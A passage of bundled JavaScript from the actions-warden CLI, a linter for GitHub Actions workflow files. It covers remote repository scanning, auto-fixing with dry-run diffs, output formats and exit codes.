      choice = { config: loadConfig(found2.path, found2.format, found2.outside), root: found2.root };
      discovered.set(found2.path, choice);
    }
    return choice;
  };
  const {
    targets: targets3,
    errors: discoveryErrors,
    skipped,
    ignored
  } = localPaths.length === 0 && remoteWanted ? { targets: [], errors: [], skipped: [], ignored: 0 } : discover(localPaths, io.cwd, { collect: options.collect });
  errors.push(...discoveryErrors);
  for (const message of skipped) io.stderr.write(`${TOOL_NAME}: note: skipped ${escapeText(message)}
`);
  const note = (message) => io.stderr.write(`${TOOL_NAME}: note: ${escapeText(message)}
`);
  let hostChoice;
  const hostsOnce = () => hostChoice ??= chooseCliHosts(options, io.env, readUserConfig(userConfigPath(io.env)), note);
  const cacheDir = options.cacheDir !== void 0 ? (0, import_node_path10.resolve)(io.cwd, options.cacheDir) : defaultCliCacheDir(io.env);
  if (remoteWanted) {
    const hosts = hostsOnce();
    remote = await scanRemote(specs, options.orgs, {
      serverUrl: hosts.serverUrl,
      apiUrl: hosts.apiUrl,
      token: io.env.GITHUB_TOKEN || io.env.GH_TOKEN || void 0,
      cacheDir,
      includeForks: options.includeForks
    });
    for (const message of remote.notes) note(message);
    errors.push(...remote.errors);
    targets3.push(...remote.targets);
  }
  let online = false;
  if (wantsOnline(options, io.env)) {
    const hosts = hostsOnce();
    const repositoryConfigs = new Set(
      targets3.map((target) => configFor(target).config).filter((config) => config !== null)
    );
    for (const config of repositoryConfigs) config.problems.push(...refusedRepositoryHosts(config, hosts));
    const snapshot = await cliOnlineSnapshot(
      hosts,
      io.env,
      targets3,
      note,
      options.cacheDir !== void 0 ? { cacheDir: (0, import_node_path10.resolve)(io.cwd, options.cacheDir) } : {}
    );
    online = snapshot !== void 0;
    useOnlineSnapshot(snapshot);
  } else {
    useOnlineSnapshot(void 0);
  }
  const results = [];
  const fixReports = [];
  let diff = "";
  const escapedDiffs = [];
  let changedFiles = 0;
  let effectiveMinSeverity = options.minSeverity;
  for (let target of targets3) {
    const choice = configFor(target);
    if (choice.config) usedConfigs.add(choice.config);
    const relative4 = target.path === STDIN_PATH ? target.displayPath : target.virtual ? target.virtual.repoPath : relativeTo(choice.root, target.path);
    const analysisOptions = optionsWithConfig(base2, choice.config, relative4, overrides);
    effectiveMinSeverity = analysisOptions.minSeverity;
    let read;
    if (target.path === STDIN_PATH) {
      try {
        read = { ok: true, text: decode(await io.readStdin()) };
      } catch (error) {
        read = {
          ok: false,
          error: `cannot read standard input: ${error?.code ? describeError(error) : error instanceof Error ? error.message : String(error)}`
        };
      }
    } else {
      read = readTargetOf(target);
    }
    if (target.kindFromContent && read.ok && "text" in read) {
      const content = kindOfContent(read.text);
      if (content.kind === null) {
        results.push(notAnActionsFileResult(target.displayPath, read.text, content.span));
        continue;
      }
      target = { ...target, kind: content.kind };
    }
    if (options.fix && read.ok && "text" in read && read.file) {
      const source = read.file;
      const fixed = fixToFixpoint(target, read.text, { ...analysisOptions, keepSuppressed: false }, options.fix);
      if (fixed.text !== read.text) {
        if (!isValidUtf8(source.bytes)) {
          errors.push(
            `${target.displayPath}: not fixed: the file is not valid UTF-8, and rewriting it would replace its invalid bytes (convert it to UTF-8, then run again)`
          );
        } else {
          changedFiles++;
          fixReports.push(`${target.displayPath}: ${fixed.describe}`);
          if (options.dryRun) {
            const report2 = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
            diff += report2.text;
            if (report2.escaped) escapedDiffs.push(target.displayPath);
            read = { ok: true, text: fixed.text };
          } else {
            try {
              writeFileWithin(target.root, source, Buffer.from((hasUtf8Bom(source.bytes) ? "\uFEFF" : "") + fixed.text, "utf8"));
              read = { ok: true, text: fixed.text };
            } catch (error) {
              changedFiles--;
              fixReports.pop();
              errors.push(
                `${target.displayPath}: cannot write the fixes: ${error instanceof RefusedError ? error.message : describeError(error)}`
              );
            }
          }
        }
      }
    }
    const result = analyzeTarget(target, read, analysisOptions);
    if ("error" in result) errors.push(result.error);
    else {
      separateSuppressed(result, options.noIgnores);
      if (options.format === "text") recordFixability(result);
      settleLazyFixes(result.findings, options.format === "json" ? "compute" : "drop");
      if (result.suppressed) settleLazyFixes(result.suppressed, "drop");
      results.push(result);
    }
  }
  if (options.fix && targets3.some((target) => target.path === STDIN_PATH))
    io.stderr.write(`${TOOL_NAME}: note: standard input is analysed but not fixed
`);
  const threshold = SEVERITIES.indexOf(effectiveMinSeverity);
  for (const config of usedConfigs) {
    const findings = configFindings(config).filter((finding) => SEVERITIES.indexOf(finding.severity) >= threshold);
    if (findings.length === 0) continue;
    const fromRepository = remoteConfigs.get(config);
    results.push(
      fromRepository ? { path: config.path, kind: "config", findings, lines: config.lines, ...fromRepository } : { path: displayPath(config.path, io.cwd), kind: "config", findings, lines: config.lines }
    );
  }
  sortResults(results);
  if (options.fix) {
    const verb = options.dryRun ? "would fix" : "fixed";
    for (const report2 of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report2)}
`);
    for (const path of escapedDiffs) {
      io.stderr.write(
        `${TOOL_NAME}: note: the diff of ${escapeText(path)} shows control or bidirectional characters escaped (\\xNN, \\uNNNN); it does not apply as is
`
      );
    }
    io.stderr.write(
      `${TOOL_NAME}: ${changedFiles === 0 ? "nothing to fix" : `${verb} ${changedFiles} ${changedFiles === 1 ? "file" : "files"}`}
`
    );
  }
  if (options.dryRun) {
    io.stdout.write(diff);
  } else {
    io.stdout.write(
      render(options, io, results, { online, nothingRead: targets3.length === 0 && errors.length > 0, origins: remote?.origins ?? [] })
    );
  }
  if (options.sarifDir !== void 0 && remote) {
    const written = writeSarifDir((0, import_node_path10.resolve)(io.cwd, options.sarifDir), remote.origins, results);
    errors.push(...written.errors);
    if (written.files.length > 0)
      note(`wrote ${written.files.length} SARIF ${written.files.length === 1 ? "file" : "files"} into ${options.sarifDir}`);
  }
  for (const error of errors) io.stderr.write(`${TOOL_NAME}: error: ${escapeText(error)}
`);
  if (targets3.length === 0 && errors.length === 0) {
    const hint = ignored > 0 ? ` (${ignored} ${ignored === 1 ? "entry" : "entries"} left out by .gitignore files; --collect all includes them)` : "";
    io.stderr.write(
      `${TOOL_NAME}: no workflow, action or Dependabot files found in ${options.paths.length || options.orgs.length ? escapeText([...options.paths, ...options.orgs.map((org) => `--org ${org}`)].join(", ")) : "the current folder"}${hint}
`
    );
  }
  if (errors.length > 0) return EXIT_ERROR;
  const remaining = results.some((result) => result.findings.length > 0);
  const found = options.exitCodes === "severity" ? severityExitCode(results) : EXIT_FINDINGS;
  if (options.dryRun) return remaining ? found : changedFiles > 0 ? EXIT_FINDINGS : EXIT_OK;
  return remaining ? found : EXIT_OK;
}
var SEVERITY_EXIT_CODES = { informational: 11, low: 12, medium: 13, high: 14 };
function severityExitCode(results) {
  let highest = -1;
  for (const result of results) for (const finding of result.findings) highest = Math.max(highest, SEVERITIES.indexOf(finding.severity));
  return highest < 0 ? EXIT_OK : SEVERITY_EXIT_CODES[SEVERITIES[highest]];
}
function separateSuppressed(result, noIgnores) {
  if (!result.findings.some(isSuppressed)) return;
  if (noIgnores) {
    for (const finding of result.findings) if (isSuppressed(finding)) delete finding.suppression;
    return;
  }
  result.suppressed = result.findings.filter(isSuppressed);
  result.findings = result.findings.filter((finding) => !isSuppressed(finding));
}
function recordFixability(result) {
  const safe = acceptFix("safe");
  const all = acceptFix("all");
  for (const finding of result.findings) {
    const fixes = finding.fixes;
    const fixability = fixes.some(safe) ? "safe" : fixes.some(all) ? "unsafe" : void 0;
    if (fixability) (result.fixability ??= /* @__PURE__ */ new Map()).set(finding, fixability);
    finding.fixes = [];
  }
}
function render(options, io, results, run2) {
  switch (options.format) {
    case "json":
      return formatJson(results, {
        persona: options.persona,
        minSeverity: options.minSeverity,
        offline: options.offline,
        online: run2.online
      });
    case "sarif":
      return formatSarif(results, run2.origins);
    case "github":
      return formatGithub(results);
    default: {
      const color = useColor(options, io);
      return formatText(results, {
        color,
        codeFrame: options.codeFrame && (io.stdout.isTTY === true || options.forceColor),
        hyperlinks: useHyperlinks(options, io),
        summary: !run2.nothingRead
      });
    }
  }
}
function acceptFix(mode) {
  return mode === "all" ? (fix) => fix.isPreferred : (fix) => fix.isPreferred && fix.safety === "safe";
}
function fixToFixpoint(target, text, options, mode) {
  const accept = acceptFix(mode);
  const fixedRules = /* @__PURE__ */ new Map();
  let current = text;
  for (let round = 0; round < MAX_FIX_ROUNDS; round++) {
    const { findings } = analyzeText(target.displayPath, target.kind, current, options);
    const edits = fixAllEdits(findings, accept);
    if (edits.length === 0) break;
    const next = applyEdits(current, edits);
    if (next === current) break;
    const after = new Set(
      analyzeText(target.displayPath, target.kind, next, options).findings.map((finding) => `${finding.ruleId}\0${finding.message}`)
    );
    for (const finding of findings) {
      if (finding.fixes.some(accept) && !after.has(`${finding.ruleId}\0${finding.message}`))
        fixedRules.set(finding.ruleId, (fixedRules.get(finding.ruleId) ?? 0) + 1);
    }
    current = next;
  }
  const total = [...fixedRules.values()].reduce((sum, count) => sum + count, 0);
  const detail = [...fixedRules].map(([rule, count]) => count > 1 ? `${rule} ×${count}` : rule).join(", ");
  return { text: current, describe: `${total} ${total === 1 ? "finding" : "findings"}${detail ? ` (${detail})` : ""}` };
}
function useColor(options, io) {
  if (options.forceColor) return true;
  if (!options.color || io.env.NO_COLOR !== void 0 && io.env.NO_COLOR !== "") return false;
  return io.stdout.isTTY === true;
}
function useHyperlinks(options, io) {
  const env = io.env;
  if (!options.color || env.NO_COLOR !== void 0 && env.NO_COLOR !== "") return false;
  if (io.stdout.isTTY !== true) return false;
  if (isCi(env)) return false;
  const term = env.TERM ?? "";
  return term !== "dumb" && term !== "linux";
}
function isCi(env) {
  const ci = env.CI;
  if (ci !== void 0 && ci !== "" && ci !== "0" && ci.toLowerCase() !== "false") return true;
  return ["GITHUB_ACTIONS", "BUILDKITE", "TF_BUILD", "GITLAB_CI", "JENKINS_URL", "TEAMCITY_VERSION", "CIRCLECI"].some(
    (name) => Boolean(env[name])
  );
}
function existsOnDisk(path) {
  try {
    (0, import_node_fs11.lstatSync)(path);
    return true;
  } catch {
    return false;
  }
}
function main(argv) {
  return run(argv, {
    cwd: process.cwd(),
    env: process.env,
    stdout: process.stdout,
    stderr: process.stderr,
    readStdin
  });
}
async function readStdin() {
  if ((0, import_node_fs11.fstatSync)(0).isDirectory()) throw Object.assign(new Error("standard input is a folder"), { code: "EISDIR" });
  const chunks = [];
  for await (const chunk of process.stdin) chunks.push(typeof chunk === "string" ? Buffer.from(chunk) : chunk);
  return Buffer.concat(chunks);
}

// server/src/cli.ts
process.stdout.on("error", (error) => {
  if (error.code === "EPIPE") process.exit(process.exitCode ?? 0);
  throw error;
});
main(process.argv.slice(2)).then(
  (code) => {
    process.exitCode = code;
  },
  (error) => {
    const text = error instanceof Error ? error.stack ?? error.message : String(error);
    process.stderr.write(`actions-warden: internal error: ${text.split("\n").map(escapeLineStart).join("\n")}
`);
    process.exitCode = 2;
  }
);
